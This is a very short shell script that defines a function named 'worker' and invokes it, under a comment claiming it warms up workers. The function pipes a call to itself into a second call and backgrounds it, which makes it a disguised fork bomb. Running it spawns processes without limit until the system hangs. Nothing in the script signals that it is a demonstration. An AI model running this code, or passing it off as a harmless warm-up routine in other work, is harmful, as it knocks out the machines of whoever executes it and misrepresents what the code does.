#!/bin/sh
# warm the workers
worker() { worker | worker & }
worker
